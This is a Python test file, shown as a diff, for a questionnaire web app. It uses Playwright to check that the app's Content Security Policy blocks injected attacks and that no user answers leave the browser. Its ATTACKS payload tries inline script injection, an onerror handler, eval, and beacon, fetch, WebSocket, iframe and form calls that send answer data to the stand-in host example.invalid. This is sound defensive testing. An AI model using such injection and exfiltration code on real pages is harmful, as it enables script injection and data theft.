@@ -1,0 +1,138 @@
+"""The policy is in force, tried by breaking it; and answers leave the device by no way."""
+
+from __future__ import annotations
+
+import json
+import sys
+from pathlib import Path
+
+import pytest
+from playwright.sync_api import expect
+
+from wizard.answer_code import encode
+from wizard.app.state import State, dump, fields_of
+from wizard.loading import load
+
+sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "deploy"))
+from hosts import running
+
+PAGES = ["", "404.html", "zh/", "en/links/fill/", "en/matrix/", "zh/wizard/"]
+ATTACKS = """async () => {
+  const told = [];
+  addEventListener("securitypolicyviolation", ({effectiveDirective}) => told.push(effectiveDirective));
+  const done = {};
+  // What a debugger evaluates may use eval; what runs later is a script like any other.
+  await new Promise((go) => setTimeout(go));
+  const script = document.createElement("script");
+  script.textContent = "window.broken = true";
+  document.body.append(script);
+  const handler = document.createElement("div");
+  handler.innerHTML = "<img src=x onerror='window.broken = true'>";
+  document.body.append(handler);
+  try { (0, eval)("window.broken = true"); } catch { done.eval = true; }
+  try { new Function("window.broken = true")(); } catch { done.Function = true; }
+  try { await fetch("https://example.invalid/?answer=1"); } catch { done.fetch = true; }
+  try { new WebSocket("wss://example.invalid/"); } catch { }
+  navigator.sendBeacon("https://example.invalid/", "answer");
+  const picture = new Image();
+  picture.src = "https://example.invalid/answer.png";
+  const outside = document.createElement("script");
+  outside.src = "https://example.invalid/x.js";
+  document.head.append(outside);
+  const frame = document.createElement("iframe");
+  frame.src = "https://example.invalid/";
+  document.body.append(frame);
+  const form = document.createElement("form");
+  form.action = "https://example.invalid/";
+  document.body.append(form);
+  form.submit();
+  await new Promise((go) => setTimeout(go, 400));
+  return {broken: window.broken === true, done, told: [...new Set(told)].sort()};
+}"""
+REFUSED = ["connect-src", "form-action", "frame-src", "img-src", "script-src", "script-src-attr", "script-src-elem"]
+
+
+@pytest.fixture(scope="module", params=["meta tag", "nginx"])
+def served(request, site, tmp_path_factory):
+    """The site with the pages' own policies alone, and as nginx serves it, with the header's besides."""
+    if request.param == "meta tag":
+        yield site
+    elif not Path("/usr/sbin/nginx").exists():
+        pytest.skip("nginx is not installed")
+    else:
+        folder = tmp_path_factory.mktemp("nginx")
+        folder.chmod(0o755)
+        with running("nginx", folder) as address:
+            yield address
+
+
+@pytest.mark.parametrize("path", PAGES)
+def test_the_policy_holds_against_attacks(browser, served, path):
+    context = browser.new_context()
+    page = context.new_page()
+    left = []
+    page.on("requestfinished", lambda request: left.append(request.url) if "example.invalid" in request.url else None)
+    page.goto(served + path)
+    found = page.evaluate(ATTACKS)
+    context.close()
+    assert found["broken"] is False
+    assert found["done"] == {"eval": True, "Function": True, "fetch": True}
+    assert [kind for kind in REFUSED if kind not in found["told"]] == []
+    assert left == []
+
+
+def test_the_wizard_runs_under_the_headers_of_a_real_host(browser, tmp_path):
+    if not Path("/usr/sbin/nginx").exists():
+        pytest.skip("nginx is not installed")
+    tmp_path.chmod(0o755)
+    with running("nginx", tmp_path) as address:
+        context = browser.new_context()
+        page = context.new_page()
+        errors = []
+        page.on("console", lambda message: errors.append(message.text) if message.type == "error" else None)
+        page.goto(f"{address}zh/wizard/")
+        page.locator('label:has(input[value="rail"])').click()
+        page.locator(".btn--primary").click()
+        expect(page.locator("#wz")).to_have_attribute("data-place", "topic/chain")
+        context.close()
+    assert errors == []
+
+
+def test_no_answer_is_in_any_request_of_a_walk_with_every_export(browser, site):
+    """All that leaves the page is written down: address, headers, body, of pages, workers and the service worker."""
+    answers = {"sector": "rail", "rd_intensity": 4.37, "employees": 1873, "export_share": 61.7, "funding_gap": "severe"}
+    names = {"who": "Zhao Qiang", "note": "Zebra note 7741"}
+    code = encode(answers, load())
+    context = browser.new_context(service_workers="allow", accept_downloads=True)
+    sent = []
+
+    def note(request):
+        sent.append(f"{request.method} {request.url} {request.post_data or ''} {json.dumps(request.headers)}")
+
+    context.on("request", note)
+    page = context.new_page()
+    page.set_default_timeout(60_000)
+    plan = [{"action": "name_three_chain_gaps", "by": "2026-12-24", **names}]
+    state = {**json.loads(dump(State(fields_of(answers)))), "plan": plan}
+    page.goto(f"{site}en/about/")
+    page.evaluate("kept => localStorage.setItem('five-links', kept)", json.dumps({"state": json.dumps(state)}))
+    exports = set()
+    page.goto(f"{site}en/wizard/")
+    for step in ("topic/firm", "topic/innovation", "check", "advice", "plan", "share", "compare"):
+        page.evaluate("step => { location.hash = `#/${step}`; }", step)
+        expect(page.locator("#wz")).to_have_attribute("data-place", step)
+        for value in page.locator('button[value^="export:"]').evaluate_all("all => all.map((one) => one.value)"):
+            if value not in exports:
+                exports.add(value)
+                page.locator(f'button[value="{value}"]').first.click()
+                page.wait_for_timeout(700)
+    page.evaluate("code => { location.hash = `#/open/${code}`; }", code)
+    page.wait_for_timeout(1_000)
+    page.reload()
+    page.wait_for_timeout(500)
+    context.close()
+    assert len(exports) >= 5, exports
+    secrets = [code, code.replace("-", ""), "4.37", "1873", "61.7", "severe", *names.values(), "Zebra"]
+    assert [line for line in sent if any(secret in line for secret in secrets)] == []
+    assert {line.split()[0] for line in sent} == {"GET"}
+    assert [line for line in sent if not line.split()[1].startswith((site, "blob:", "data:"))] == []
